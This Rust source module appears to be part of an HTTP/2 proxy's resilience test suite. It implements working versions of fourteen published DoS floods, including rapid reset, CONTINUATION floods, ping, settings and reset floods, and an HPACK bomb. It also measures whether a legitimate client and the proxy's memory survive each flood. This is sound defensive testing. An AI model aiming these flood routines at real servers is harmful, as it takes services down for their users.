//! HTTP/2 floods, after the public advisories: rapid reset (CVE-2023-44487), the 2024
//! CONTINUATION floods (VU#421644), and the 2019 Netflix set (CVE-2019-9511 data
//! dribble, 9512 ping flood, 9513 resource loop, 9514 reset flood, 9515 settings flood,
//! 9516 0-length headers leak, 9517 internal data buffering, 9518 empty frames flood),
//! plus an HPACK bomb and stream-count exhaustion.
//!
//! The attacking connection writes raw bytes as fast as the proxy takes them, usually
//! without reading (a reader that never reads is half the attack). Meanwhile a second
//! connection sends well-formed requests; the verdict is about that client (100%
//! success, sane latency), the proxies' memory (resident set before and during) and
//! their survival, plus what some floods must specifically get (a GOAWAY, a refused
//! stream, nothing forwarded).

use std::collections::HashMap;
use std::net::SocketAddr;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::tcp::OwnedReadHalf;
use tokio::net::TcpStream;
use tokio::time::Instant;

use super::client::{Conn, Options, Outcome};
use super::frame::{flag, kind, setting, Frame, Reason, PREFACE};
use super::hpack::Block;
use super::origin::Arrival;
use super::vectors::{Attack, Class, Req, Vector, Verdict};

/// How long each flood writes.
pub(crate) const DURATION: Duration = Duration::from_secs(1);

/// How long floods whose attack is holding something (stalled or open streams) keep it
/// after [`DURATION`].
const HOLD_AFTER: Duration = Duration::from_millis(500);

/// How much a proxy's resident set may grow during one flood before it counts as
/// unbounded: 64 MiB. Legitimate buffering (flow-control windows of 1 MiB per stream,
/// 4 MiB per upstream connection) stays well under it.
pub(crate) const RSS_GROWTH_LIMIT_KB: u64 = 64 * 1024;

/// The slowest a legitimate request may be during a flood: 1.2 s. They take 1-30 ms
/// on an idle machine and have been seen at 600 ms on a loaded one (CI runs every test
/// binary at once on 2 cores); a request stuck behind the attack waits until the
/// attack ends and its streams are released, 1.5 s or more after it was sent.
pub(crate) const LEGIT_LATENCY_LIMIT: Duration = Duration::from_millis(1200);

/// One flood.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Flood {
    /// HEADERS then RST_STREAM(CANCEL), stream after stream (CVE-2023-44487).
    RapidReset,
    /// One header block that never ends: CONTINUATION after CONTINUATION, each with a
    /// new field, no END_HEADERS (2024 CONTINUATION flood).
    ContinuationEndless,
    /// The same with empty CONTINUATION frames (CVE-2019-9518 shape).
    ContinuationEmpty,
    /// Header blocks of thousands of small CONTINUATION frames that do end.
    ContinuationLong,
    /// SETTINGS frames, never reading the ACKs (CVE-2019-9515).
    Settings,
    /// PING frames, never reading the answers (CVE-2019-9512).
    Ping,
    /// Empty DATA frames on an open stream (CVE-2019-9518).
    EmptyData,
    /// WINDOW_UPDATE frames of 1 on the connection and an open stream.
    WindowUpdate,
    /// One 4 KiB dynamic-table entry referenced thousands of times per block (HPACK bomb).
    HpackBomb,
    /// Streams asking for large bodies with a zero window, opened by 1 byte at a time
    /// (CVE-2019-9511 data dribble, CVE-2019-9517 internal data buffering).
    ZeroWindow,
    /// More streams than SETTINGS_MAX_CONCURRENT_STREAMS (100), held open.
    StreamExhaustion,
    /// Malformed requests that each earn a RST_STREAM, never reading (CVE-2019-9514).
    Resets,
    /// PRIORITY frames reshuffling a dependency tree of idle streams (CVE-2019-9513).
    PriorityChurn,
    /// Header blocks of empty-name fields, connection after connection (CVE-2019-9516).
    ZeroLengthHeaders,
}

/// What the attacking side saw, and what a flood must specifically get.
#[derive(Debug, Default)]
pub(crate) struct Report {
    /// GOAWAY code and last stream id, if one came.
    pub(crate) goaway: Option<(Reason, u32)>,
    /// Frames and bytes written.
    pub(crate) frames: u64,
    pub(crate) bytes: u64,
    /// Connections the flood used.
    pub(crate) connections: u32,
    /// Flood-specific failures.
    pub(crate) failures: Vec<String>,
    /// A line for the report.
    pub(crate) notes: Vec<String>,
}

/// The legitimate client's record during a flood.
#[derive(Debug, Default)]
pub(crate) struct Legit {
    pub(crate) ok: usize,
    pub(crate) failed: Vec<String>,
    pub(crate) latencies: Vec<Duration>,
}

// === impl Flood ===

impl Flood {
    pub(crate) fn summary(self) -> String {
        let what = match self {
            Self::RapidReset => "HEADERS(ES) + RST_STREAM(CANCEL) per stream, as fast as possible",
            Self::ContinuationEndless => {
                "HEADERS without EH, then CONTINUATION (one new field each) forever"
            }
            Self::ContinuationEmpty => "HEADERS without EH, then empty CONTINUATION forever",
            Self::ContinuationLong => "per stream: HEADERS + 4000 one-field CONTINUATIONs, then EH",
            Self::Settings => "SETTINGS frames, never reading",
            Self::Ping => "PING frames, never reading",
            Self::EmptyData => "open POST, then empty DATA frames",
            Self::WindowUpdate => "WINDOW_UPDATE +1 on the connection and an open stream",
            Self::HpackBomb => {
                "x-bomb: 4 KiB with incremental indexing, then index 62 ×16000 per block"
            }
            Self::ZeroWindow => {
                "INITIAL_WINDOW_SIZE 0, 100 GETs of 256 KiB, WINDOW_UPDATE +1 per stream"
            }
            Self::StreamExhaustion => {
                "100 open POST streams held, the 101st and one more every 100 ms refused"
            }
            Self::Resets => "GETs with `connection: close` (each earns RST_STREAM), never reading",
            Self::PriorityChurn => "PRIORITY frames re-parenting 100 idle streams in a loop",
            Self::ZeroLengthHeaders => {
                "per connection: a HEADERS of 2000 empty-name fields, repeated"
            }
        };
        format!("flood {:.1}s: {what}", DURATION.as_secs_f32())
    }

    /// Runs the attack against `addr` for [`DURATION`].
    pub(crate) async fn attack(self, addr: SocketAddr) -> Report {
        let mut report = Report::default();
        let deadline = Instant::now() + DURATION;
        match self {
            Self::ZeroLengthHeaders => {
                let block = (0..2000)
                    .fold(Block::new(), |b, _| b.literal(b"", b""))
                    .into_bytes();
                while Instant::now() < deadline {
                    let Ok(stream) = connect(addr, &[]).await else {
                        report.notes.push("connect refused".to_owned());
                        break;
                    };
                    report.connections += 1;
                    let (read, mut write) = stream.into_split();
                    let watch = Watch::spawn(read);
                    let frame =
                        Frame::headers(1, block.clone(), flag::END_HEADERS | flag::END_STREAM);
                    let _ =
                        tokio::time::timeout_at(deadline, write.write_all(&frame.encode())).await;
                    report.frames += 1;
                    let _ = tokio::time::timeout(Duration::from_millis(50), watch.closed()).await;
                    if report.goaway.is_none() {
                        report.goaway = watch.goaway();
                    }
                }
                return report;
            }
            Self::StreamExhaustion => return stream_exhaustion(addr, deadline).await,
            _ => {}
        }
        let settings: &[(u16, u32)] = match self {
            Self::ZeroWindow => &[(setting::INITIAL_WINDOW_SIZE, 0)],
            _ => &[],
        };
        let Ok(stream) = connect(addr, settings).await else {
            report
                .failures
                .push("attacker could not connect".to_owned());
            return report;
        };
        report.connections = 1;
        let (read, mut write) = stream.into_split();
        // Floods whose point is a peer that never reads start reading only at the end.
        let reads_during = !matches!(self, Self::Settings | Self::Ping | Self::Resets);
        let mut pending_read = Some(read);
        let watch = if reads_during {
            pending_read.take().map(Watch::spawn)
        } else {
            None
        };
        let mut next = 1u32;
        let mut batch = 0u64;
        let mut preamble = Vec::new();
        match self {
            Self::ContinuationEndless | Self::ContinuationEmpty => {
                Frame::headers(1, Req::get().header_block(), flag::END_STREAM)
                    .encode_into(&mut preamble);
            }
            Self::EmptyData | Self::WindowUpdate => {
                Frame::headers(1, Req::post(b"").header_block(), flag::END_HEADERS)
                    .encode_into(&mut preamble);
            }
            Self::HpackBomb => {
                let block = Block::literals(&Req::get().fields)
                    .literal_indexed(b"x-bomb", &[b'b'; 4000])
                    .into_bytes();
                Frame::headers(1, block, flag::END_HEADERS | flag::END_STREAM)
                    .encode_into(&mut preamble);
                next = 3;
            }
            Self::ZeroWindow => {
                for i in 0..100u32 {
                    let req = Req::get().set(":path", "/big/262144");
                    Frame::headers(
                        1 + 2 * i,
                        req.header_block(),
                        flag::END_HEADERS | flag::END_STREAM,
                    )
                    .encode_into(&mut preamble);
                }
            }
            _ => {}
        }
        let mut written = write_until(&mut write, preamble, deadline).await;
        while written && Instant::now() < deadline {
            let mut out = Vec::with_capacity(64 * 1024);
            while out.len() < 32 * 1024 {
                batch += 1;
                report.frames += 1;
                self.next_frames(&mut out, &mut next, batch);
            }
            report.bytes += out.len() as u64;
            written = write_until(&mut write, out, deadline).await;
            if matches!(self, Self::ZeroWindow) {
                tokio::time::sleep(Duration::from_millis(20)).await;
            }
        }
        if !written && Instant::now() < deadline {
            report
                .notes
                .push("the proxy closed or reset the connection".to_owned());
        }
        if self == Self::ZeroWindow {
            // Stalled streams are the attack: hold them a while longer, so a legitimate
            // request stuck behind them shows, however late the stall began.
            tokio::time::sleep(HOLD_AFTER).await;
        }
        let watch = match pending_read {
            Some(read) => Watch::spawn(read),
            None => watch.unwrap_or_else(|| unreachable!("a reader is always started")),
        };
        let _ = tokio::time::timeout(Duration::from_millis(300), watch.closed()).await;
        report.goaway = watch.goaway();
        if self == Self::HpackBomb {
            let state = watch.state.lock().unwrap();
            report.notes.push(format!(
                "{} responses, {} resets",
                state.responses,
                state.resets.len()
            ));
        }
        report
    }

    /// Appends one unit of the flood to `out`.
    fn next_frames(self, out: &mut Vec<u8>, next: &mut u32, batch: u64) {
        let get = || Req::get().header_block();
        match self {
            Self::RapidReset => {
                let id = take(next);
                Frame::headers(id, get(), flag::END_HEADERS | flag::END_STREAM).encode_into(out);
                Frame::rst(id, Reason::CANCEL).encode_into(out);
            }
            Self::ContinuationEndless => {
                let block = Block::new()
                    .literal(format!("x-c{batch}").as_bytes(), b"0123456789abcdef")
                    .into_bytes();
                Frame::continuation(1, block, false).encode_into(out);
            }
            Self::ContinuationEmpty => Frame::continuation(1, Vec::new(), false).encode_into(out),
            Self::ContinuationLong => {
                let id = take(next);
                Frame::headers(id, get(), flag::END_STREAM).encode_into(out);
                for i in 0..4000 {
                    let block = Block::new()
                        .literal(format!("x-c{i}").as_bytes(), b"v")
                        .into_bytes();
                    Frame::continuation(id, block, i == 3999).encode_into(out);
                }
            }
            Self::Settings => {
                let value = if batch.is_multiple_of(2) {
                    65_535
                } else {
                    65_536
                };
                Frame::settings(&[(setting::INITIAL_WINDOW_SIZE, value)]).encode_into(out);
            }
            Self::Ping => Frame::ping(batch.to_be_bytes(), false).encode_into(out),
            Self::EmptyData => Frame::data(1, b"", false).encode_into(out),
            Self::WindowUpdate => {
                Frame::window_update(0, 1).encode_into(out);
                Frame::window_update(1, 1).encode_into(out);
            }
            Self::HpackBomb => {
                let id = take(next);
                let block = Block::literals(&Req::get().fields)
                    .raw(&[0xbe; 16_000]) // indexed field 62 (0x80 | 62)
                    .into_bytes();
                Frame::headers(id, block, flag::END_HEADERS | flag::END_STREAM).encode_into(out);
            }
            Self::ZeroWindow => {
                for i in 0..100u32 {
                    Frame::window_update(1 + 2 * i, 1).encode_into(out);
                }
                Frame::window_update(0, 100).encode_into(out);
            }
            Self::Resets => {
                let id = take(next);
                let block =
                    Block::literals(&Req::get().push("connection", "close").fields).into_bytes();
                Frame::headers(id, block, flag::END_HEADERS | flag::END_STREAM).encode_into(out);
            }
            Self::PriorityChurn => {
                let a = 1 + 2 * (batch % 100) as u32;
                let b = 1 + 2 * ((batch * 37 + 11) % 100) as u32;
                if a != b {
                    Frame::priority(a, b, batch.is_multiple_of(3), (batch % 256) as u8)
                        .encode_into(out);
                }
                Frame::priority(b, 0, true, 200).encode_into(out);
            }
            Self::StreamExhaustion | Self::ZeroLengthHeaders => {}
        }
    }

    /// Flood-specific failures from what reached the origin during the flood.
    pub(crate) fn judge_origin(self, foreign: &[&Arrival]) -> Vec<String> {
        match self {
            Self::HpackBomb => foreign
                .iter()
                .filter(|a| a.fields.iter().filter(|(n, _)| n == b"x-bomb").count() > 1)
                .take(1)
                .map(|a| {
                    format!(
                        "an HPACK bomb reached the origin ({} fields)",
                        a.fields.len()
                    )
                })
                .collect(),
            Self::ZeroLengthHeaders => foreign
                .iter()
                .filter(|a| a.fields.iter().any(|(n, _)| n.is_empty()))
                .take(1)
                .map(|_| "empty-name fields reached the origin".to_owned())
                .collect(),
            Self::StreamExhaustion => {
                let held = foreign.iter().filter(|a| a.path() == "/hold").count();
                if held > 100 {
                    vec![format!(
                        "{held} streams of one connection reached the origin (limit 100)"
                    )]
                } else {
                    Vec::new()
                }
            }
            Self::ContinuationEndless | Self::ContinuationEmpty | Self::ContinuationLong => foreign
                .iter()
                .filter(|a| a.fields.iter().any(|(n, _)| n.starts_with(b"x-c")))
                .take(1)
                .map(|a| {
                    format!(
                        "a CONTINUATION-flood block reached the origin ({} fields)",
                        a.fields.len()
                    )
                })
                .collect(),
            _ => Vec::new(),
        }
    }
}

fn take(next: &mut u32) -> u32 {
    let id = *next;
    *next = next.wrapping_add(2) & 0x7fff_ffff;
    id
}

/// Opens 100 streams that stay open, then stream 201: it must be refused (RFC 9113
/// §5.1.2); then keeps opening more until the deadline.
async fn stream_exhaustion(addr: SocketAddr, deadline: Instant) -> Report {
    let mut report = Report {
        connections: 1,
        ..Report::default()
    };
    let Ok(stream) = connect(addr, &[]).await else {
        report
            .failures
            .push("attacker could not connect".to_owned());
        return report;
    };
    let (read, mut write) = stream.into_split();
    let watch = Watch::spawn(read);
    let hold = Req::post(b"").set(":path", "/hold").header_block();
    let mut out = Vec::new();
    for i in 0..100u32 {
        Frame::headers(1 + 2 * i, hold.clone(), flag::END_HEADERS).encode_into(&mut out);
    }
    report.frames = 100;
    write_until(&mut write, out, deadline).await;
    tokio::time::sleep(Duration::from_millis(200)).await;
    write_until(
        &mut write,
        Frame::headers(201, hold.clone(), flag::END_HEADERS).encode(),
        deadline,
    )
    .await;
    let refused = watch.reset_of(201, Duration::from_secs(1)).await;
    match refused {
        Some(Reason::REFUSED_STREAM | Reason::PROTOCOL_ERROR) => {}
        Some(other) => report.failures.push(format!(
            "stream 201 (the 101st) reset with {other}, want REFUSED_STREAM or PROTOCOL_ERROR"
        )),
        None => report.failures.push(format!(
            "stream 201 (the 101st) was not refused (GOAWAY: {:?})",
            watch.goaway()
        )),
    }
    // Hold the 100 streams for the rest of the flood, trying one more now and then
    // (few enough to stay under any reset-rate limit), so the legitimate client's
    // numbers show what 100 held streams of one client cost the others.
    let mut next = 203u32;
    while Instant::now() < deadline {
        let frame = Frame::headers(take(&mut next), hold.clone(), flag::END_HEADERS);
        report.frames += 1;
        if !write_until(&mut write, frame.encode(), deadline).await {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    tokio::time::sleep(HOLD_AFTER).await;
    report.goaway = watch.goaway();
    let resets = watch.state.lock().unwrap().resets.len();
    report.notes.push(format!("{resets} streams reset"));
    report
}

/// Connects, sends the preface and SETTINGS (with `settings`) and a SETTINGS ACK for
/// the server's (sent blind: the attacker may never read it).
async fn connect(addr: SocketAddr, settings: &[(u16, u32)]) -> std::io::Result<TcpStream> {
    let mut stream = TcpStream::connect(addr).await?;
    stream.set_nodelay(true)?;
    let mut first = PREFACE.to_vec();
    Frame::settings(settings).encode_into(&mut first);
    Frame::settings_ack().encode_into(&mut first);
    stream.write_all(&first).await?;
    Ok(stream)
}

/// Writes `bytes` unless the deadline passes first; false if the write failed or timed out.
async fn write_until(
    write: &mut tokio::net::tcp::OwnedWriteHalf,
    bytes: Vec<u8>,
    deadline: Instant,
) -> bool {
    matches!(
        tokio::time::timeout_at(deadline, write.write_all(&bytes)).await,
        Ok(Ok(()))
    )
}

/// A reader on the attacking connection: GOAWAY, resets per stream, responses.
struct Watch {
    state: Arc<Mutex<WatchState>>,
    done: Arc<tokio::sync::Notify>,
}

#[derive(Default)]
struct WatchState {
    goaway: Option<(Reason, u32)>,
    resets: HashMap<u32, Reason>,
    responses: u64,
    closed: bool,
}

impl Watch {
    fn spawn(mut read: OwnedReadHalf) -> Self {
        let state = Arc::new(Mutex::new(WatchState::default()));
        let done = Arc::new(tokio::sync::Notify::new());
        let (s, d) = (state.clone(), done.clone());
        tokio::spawn(async move {
            let mut buf = Vec::with_capacity(1 << 16);
            let mut chunk = vec![0u8; 1 << 16];
            loop {
                match read.read(&mut chunk).await {
                    Ok(0) | Err(_) => break,
                    Ok(n) => buf.extend_from_slice(&chunk[..n]),
                }
                let mut at = 0;
                while let Some((len, kind, _, stream)) = Frame::peek_header(&buf[at..]) {
                    if buf.len() < at + 9 + len {
                        break;
                    }
                    let payload = &buf[at + 9..at + 9 + len];
                    let mut st = s.lock().unwrap();
                    match kind {
                        kind::GOAWAY if st.goaway.is_none() && payload.len() >= 8 => {
                            let frame = Frame::new(kind, 0, 0, payload.to_vec());
                            st.goaway = Some((
                                frame.reason().unwrap_or(Reason::NO_ERROR),
                                frame.last_stream().unwrap_or(0),
                            ));
                        }
                        kind::RST_STREAM if payload.len() == 4 => {
                            let code = u32::from_be_bytes([
                                payload[0], payload[1], payload[2], payload[3],
                            ]);
                            st.resets.insert(stream, Reason(code));
                        }
                        kind::HEADERS => st.responses += 1,
                        _ => {}
                    }
                    drop(st);
                    at += 9 + len;
                }
                buf.drain(..at);
                d.notify_waiters();
            }
            s.lock().unwrap().closed = true;
            d.notify_waiters();
        });
        Self { state, done }
    }

    fn goaway(&self) -> Option<(Reason, u32)> {
        self.state.lock().unwrap().goaway
    }

    /// Waits until the connection closes.
    async fn closed(&self) {
        loop {
            let notified = self.done.notified();
            tokio::pin!(notified);
            notified.as_mut().enable();
            if self.state.lock().unwrap().closed {
                return;
            }
            notified.await;
        }
    }

    /// The RST_STREAM code of `stream`, waiting up to `timeout`.
    async fn reset_of(&self, stream: u32, timeout: Duration) -> Option<Reason> {
        let deadline = Instant::now() + timeout;
        loop {
            let notified = self.done.notified();
            tokio::pin!(notified);
            notified.as_mut().enable();
            {
                let st = self.state.lock().unwrap();
                if let Some(reason) = st.resets.get(&stream) {
                    return Some(*reason);
                }
                if st.closed || st.goaway.is_some() {
                    return None;
                }
            }
            if tokio::time::timeout_at(deadline, notified).await.is_err() {
                return None;
            }
        }
    }
}

// === the legitimate client ===

/// Sends well-formed GETs on one connection until `stop`, one at a time.
pub(crate) async fn legitimate(addr: SocketAddr, stop: Arc<AtomicBool>) -> Legit {
    let mut legit = Legit::default();
    let conn = match Conn::open(addr, &Options::default()).await {
        Ok(conn) => conn,
        Err(e) => {
            legit.failed.push(format!("connect: {e}"));
            return legit;
        }
    };
    let mut stream = 1u32;
    let mut n = 0u32;
    // At least three requests, even if the flood is over sooner.
    while n < 3 || !stop.load(Ordering::Relaxed) {
        n += 1;
        let started = Instant::now();
        conn.get(stream, &format!("/good/legit/{n}"));
        match conn.outcome(stream, Duration::from_secs(3)).await {
            Outcome::Response {
                status: 200,
                reset: None,
                ..
            } => {
                legit.ok += 1;
                legit.latencies.push(started.elapsed());
            }
            other => {
                legit.failed.push(format!("request {n}: {other}"));
                if conn.is_closed() {
                    break;
                }
            }
        }
        stream += 2;
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    legit
}

// === memory ===

/// The resident set of `pid` in KiB, from /proc/<pid>/status.
pub(crate) fn rss_kb(pid: u32) -> Option<u64> {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
}

/// The process holding the TCP socket bound to `local` (listening or connected).
pub(crate) fn pid_of_socket(local: SocketAddr) -> Option<u32> {
    let inode = socket_inode(local)?;
    let needle = format!("socket:[{inode}]");
    for entry in std::fs::read_dir("/proc").ok()?.flatten() {
        let Some(pid) = entry
            .file_name()
            .to_str()
            .and_then(|s| s.parse::<u32>().ok())
        else {
            continue;
        };
        let Ok(fds) = std::fs::read_dir(format!("/proc/{pid}/fd")) else {
            continue;
        };
        for fd in fds.flatten() {
            if std::fs::read_link(fd.path()).is_ok_and(|l| l.to_string_lossy() == needle) {
                return Some(pid);
            }
        }
    }
    None
}

/// The inode of the IPv4 TCP socket whose local address is `local`, from /proc/net/tcp.
fn socket_inode(local: SocketAddr) -> Option<u64> {
    let SocketAddr::V4(local) = local else {
        return None;
    };
    let want = format!(
        "{:08X}:{:04X}",
        u32::from_ne_bytes(local.ip().octets()),
        local.port()
    );
    let table = std::fs::read_to_string("/proc/net/tcp").ok()?;
    table.lines().skip(1).find_map(|line| {
        let cols: Vec<&str> = line.split_whitespace().collect();
        (cols.get(1) == Some(&want.as_str()))
            .then(|| cols.get(9)?.parse().ok())
            .flatten()
            .filter(|&inode| inode != 0)
    })
}

// === the vectors ===

/// The floods as vectors.
pub(crate) fn vectors() -> Vec<Vector> {
    const CALM: &[Reason] = &[
        Reason::ENHANCE_YOUR_CALM,
        Reason::PROTOCOL_ERROR,
        Reason::COMPRESSION_ERROR,
    ];
    let flood = |name, source, flood, goaway| Vector {
        name,
        class: Class::Flood,
        source,
        attack: Attack::Flood(flood),
        verdict: Verdict::withstood(goaway),
    };
    vec![
        flood(
            "flood-rapid-reset",
            "CVE-2023-44487",
            Flood::RapidReset,
            &[],
        ),
        flood(
            "flood-continuation-endless",
            "VU#421644 (2024 CONTINUATION flood), RFC 9113 §6.10",
            Flood::ContinuationEndless,
            CALM,
        ),
        flood(
            "flood-continuation-empty",
            "VU#421644, CVE-2019-9518",
            Flood::ContinuationEmpty,
            CALM,
        ),
        flood(
            "flood-continuation-long-blocks",
            "VU#421644",
            Flood::ContinuationLong,
            CALM,
        ),
        flood("flood-settings", "CVE-2019-9515", Flood::Settings, &[]),
        flood("flood-ping", "CVE-2019-9512", Flood::Ping, &[]),
        flood("flood-empty-data", "CVE-2019-9518", Flood::EmptyData, &[]),
        flood(
            "flood-window-update",
            "RFC 9113 §6.9 (abuse)",
            Flood::WindowUpdate,
            &[],
        ),
        flood(
            "flood-hpack-bomb",
            "HPACK bomb (CVE-2016-6581 class)",
            Flood::HpackBomb,
            &[],
        ),
        flood(
            "flood-zero-window-dribble",
            "CVE-2019-9511, CVE-2019-9517",
            Flood::ZeroWindow,
            &[],
        ),
        flood(
            "flood-stream-exhaustion",
            "RFC 9113 §5.1.2, DESIGN §7 (100 streams)",
            Flood::StreamExhaustion,
            &[],
        ),
        flood("flood-reset", "CVE-2019-9514", Flood::Resets, &[]),
        flood(
            "flood-priority-churn",
            "CVE-2019-9513",
            Flood::PriorityChurn,
            &[],
        ),
        flood(
            "flood-zero-length-headers",
            "CVE-2019-9516",
            Flood::ZeroLengthHeaders,
            &[],
        ),
    ]
}
